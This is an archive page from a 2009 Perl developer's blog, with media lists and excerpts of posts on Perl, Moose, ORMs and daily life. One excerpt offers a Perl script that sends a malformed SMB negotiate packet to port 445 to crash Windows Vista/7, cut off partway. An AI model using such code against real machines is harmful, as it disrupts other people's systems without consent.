High FidelityBoondock Saints This Is Spinal Tap A Mighty Wind Fight Club Leon/The Professional The Life Aquatic with Steve Zissou Pulp Fiction Stranger than Fiction Children of Men The Prestige Little Miss Sunshine Orange County Snatch Lock, Stock & Two Smoking Barrels Formula 51 Reservoir Dogs The Usual Suspects American Beauty Being John Malkovich Magnolia The Big Lebowski Donnie Darko Fargo

Posted Sun, Sep 20, 2009

Album Short List

Ladyhawkeby Ladyhawke, Review Anywhere I Lay My Headby Scarlett Johansson, Review Furrby Blitzen Trapper, ReviewBraveby Marillion, Review Tallahasseeby The Mountain Goats, Review Ultravisitorby SquarePusher, Review Good News For People Who Love Bad Newsby Modest Mouse, Review Neon Bible by The Arcade Fire Santogold by Santogold Saturday Youth by M83 Scary Monsters by David Bowie Sound of Silver by LCD Soundsystem begin to hope by Regina Spektor Stop Making Sense by The Talking Heads The End is Beautiful by Echolyn The Hidden Land by BelaFleck and The Flecktones Time to Pretend EP by MGMT Sailing The Seas of Cheese by Primus Respond, Respond by Exit Clov Remedy Lane by Pain of Salvation Plans by Death Cab for Cutie Picaresque by The Decemberists Perelandra by Glass Hammer Like Drawing Blood by Gotye Let’s Dance by David Bowie Jeanne D’Arc by Tangerine Dream Hot Fuss by The Killers Rockin’ The Suburbs by Ben Folds Magical Mystery Tour by The Beatles Colma by Buckethead Red by King Crimson Red by Datarock Day for Night by Spock’s Beard A Momentary Lapse of Reason by Pink Floyd

Posted Sun, Sep 20, 2009

Short Lists

Album Short List Movie Short List Game Short List

Posted Sun, Sep 20, 2009

Perl, PostScript, PDF, Printing, and Money

I’ve been pretty busy/distracted lately. Normally I try to post 3 times a week about the cool things that I’m doing, but I haven’t this week because what I am doing isn’t that cool! Basically I started working on the printing subsection of our app at work and it’s not looking like a lot of fun. First let me explain what makes it different than anything we’ve done before. In normal web dev you have the server generate html or maybe a pdf, send that to the user and let them print it.

Posted Fri, Sep 18, 2009

My New Hammers

For the past 6 months or so I’ve been doing a lot more design and a lot less coding (due to design and a few other things) and it’s interesting to me what the results have been. I remember when I got excited by grokking the concepts behind map and reduce. Don’t get me wrong, I am most happy with mapand reduce, but to me they are great ways to be terse and clear.

Posted Fri, Sep 11, 2009

Crash your roommate's windows computer WOOO!!!Have you heard? You can crash Vista and Windows 7 really easily with thefollowing super basic code! (Tested 3x on roomies computer) #!perl my $ip = shift or die 'Please pass the IP Address to crash as a parameter to this program'; use IO::All; my $io = io("$ip:445"); my $foo = "\x00\x00\x00\x90". # Begin SMBheader: Session message "\xff\x53\x4d\x42". # Server Component: SMB "\x72\x00\x00\x00". # Negociate Protocol "\x00\x18\x53\xc8". # Operation 0x18 & sub 0xc853 "\x00\x23".

Posted Wed, Sep 9, 2009

Moose Test Refactoring

I’ve taken care of a significant portion of the refactoring that I’m doing to disable meta-tests for the Moose test suite. I’ve done all the tests up until the 100 series (which are examples.) The following is an example of how it’s done: #!/usr/bin/perl use strict; use warnings; use lib 't/lib'; use Test::More tests => 23; use Test::Exception; use MetaTest; { package Foo; use Moose; use Moose::Util::TypeConstraints; } skip_meta { can_ok('Foo', 'meta'); isa_ok(Foo->meta, 'Moose::Meta::Class'); } 2; meta_can_ok('Foo', 'meta', '.

Posted Mon, Sep 7, 2009

Biking To Work

I’ve waited nearly a work week to make sure I don’t post this prematurely, but it’s been four days now and I’m pretty sure I can say that from now on, in the regular case I’ll be riding my bike to work. There are certainly safety issues, since I live on the outskirts of Dallas, but I’ve done a lot research to make safe choices. I haven’t done everything he says on that site, but mostly that’s because I don’t want to ride on streets instead of sidewalks on big roads.

Posted Fri, Sep 4, 2009

Exceptions with Perl, what a joy!

Today at work I had to do some validation that we haven’t yet had to do for my project at work. I’ve always thought that for validations exceptions are the way to go. I’ll explain everything I did so you guys can benefit/critique. First off, I used Exception::Class to create my exception classes: package ACD::Exceptions; use strict; use warnings; use Exception::Class ( 'ACD::Exception::InvalidBinBox' => { description => 'Invalid Bin-Box', fields => [qw{bin box}], }, 'ACD::Exception::UserException' => { fields => 'message', }, ); use Moose::Util::TypeConstraints; class_type'ACD::Exception::InvalidBinBox'; class_type 'ACD::Exception::UserException'; no Moose::Util::TypeConstraints; 1; Also note the use of Moose::Util::TypeConstraints; we’ll come back to why I did that in a bit.

Posted Thu, Sep 3, 2009

On Moose and Speed

Today the question was asked: “To Moose or Not to Moose?” The article is fairly well written, but it seems to me that the comments are not exactly educated. Here is the main one this is in response to: I’d try Mouse too. Unless you’re doing something funky I’d be surprised if it’s more than a 1 letter change to your source code. First off, here is a quote from the POD:

Posted Wed, Sep 2, 2009

"Turns out there really are Computer Gremlins!" redux

So after some experimenting at work I found out what the culprit of my previous post was. I still have no idea why some parts of the code changed, and others didn’t. I imagine that part of that had to do with bad technique (see Scientific Method.) Anyway, it has something to do with the extremelysketchtowne Catalyst::Restarter::Win32. I’m not criticizing Rolsky’s code here, it’s just the nature of using Perl 5 in Windows.

Posted Tue, Sep 1, 2009

Turns out there really are Computer Gremlins!

Ok, this is just too crazy to not record and relate. Bynow anyone who has read much of my blog or interacted with me should know that I use a significant amount of javascript on my current project at work. Because I like tokeep everything nicely organized, 95% of the time each class has it’s own file. That means I have to tell the server every time I add a new class.

Posted Thu, Aug 27, 2009

Why should I use an ORM?

At work I tend to play an…Evangelical role? I tend to experiment with various technologies, get sold on them, and then sell them to coworkers. Examples: Apache, DBIx::Class, CGIApp, and lately Catalyst. So I typically find various ways that the new tool helps make my job easier and tell people about that. After they believe me, I then educate them about various nuances and whatnot of the tool. Eventually this will happen with git, when it doesn’t suck so much with Windows.

Posted Thu, Aug 27, 2009

Brief Addendum: Send Email

Ok, so for some reason I left out sending email from last nights’post. Here it is: sometimes people forget about RT, or they have so many RT’s that they don’t know which ones are fixed and broken. Well, a small nudge viaemail can convince them to fix a longstanding bug. Of course, if it’s reasonable sending a patch wouldn’t hurt either…

Posted Wed, Aug 26, 2009

How to Help without being a Rockstar

I think a lot of people who use perl have the idea that to help the perl ecosystem be they must be rockstars who churn out exorbitant amounts of code that is well tested and well factored. That is just not true! The easiest thing one can do to help out in the perl ecosystem is to create tickets for any issues you have with modules on RT. It’s not really that much of a hassle and it can help authors out a lot.Posted Wed, Aug 26, 2009


Normally I opt to eschew metablog post (howmeta is that?!) but I figured this deserves a brief explanation. I have been getting more and more spam lately. Fortunately Akismet usually keeps humans from seeing it, but Akismet has also kept back plenty of spam too. So I decided to go with the more powerful reCAPTCHA for comments from now on. I know it’s a hassle, but it could be worse.

Posted Tue, Aug 25, 2009

Concert of the Month: Bat for Lashes

Last night (Thursday) I saw Bat for Lasheslive. It was a really good concert! You may have heard about Bat for Lashes from their awesome, creepy music video from 2007. I got the album (Fur and Gold) after hearing that song and was mostly disappointed. The other songs just didn’t seem to have the depth and feel as that song. So then recently this year I heard Daniel on Last.fm.

Posted Sat, Aug 22, 2009

Finding a sweet domain with perl

So yesterday I spent a few hours trying to find a cool domain for the project I am working on in my free time. (By the way, raptorprey.com is open.) After looking at lots of various options, I decided that it would be really cool to get a domain of a latin work with the .US TLD. Too bad I don’t know latin right? So I went online and found some cheesy one page latin dictionary that had a few thousand words.

Posted Thu, Aug 20, 2009

Metrics + Debug!

The project I am working on at work is going to be deployed soon, so today I worked on some of those things that need to be taken care of before the deploy. One of those things was changing our gigantic list of javascript files into a single file with minimal hassle. I actually tried to implement it myself, but that was silly. A simple search on CPAN forcatalyst javascript yieldstwo promising results.

Posted Wed, Aug 19, 2009

Perl 6 in Perl 5 FOR THE WIN

Today I wanted to generate a list from another list. Typically I would use map for this, but I wanted to iterate over two elements at a time, instead of one at a time. (A lot of people said to use natatime from List::MoreUtils, over and over. They didn’t read my question very carefully, especially since I specifically said Iwanted natatime but with map.) Anyway, mst pointed out Perl6::Gather, which works perfectly for this situation!

Posted Tue, Aug 18, 2009

The Beauty of Code Reuse

I’m probably preaching to the choir here, but it must be said: code reuse is most excellent!Today I got a somewhat complex feature working for our customer, and almost all of it was features I’d already written, and due to the organization of our system I could easily reuse most of the code. Our customer fixes airplane parts. When they fix a part they need to document every single thing they did to the part.

Posted Fri, Aug 14, 2009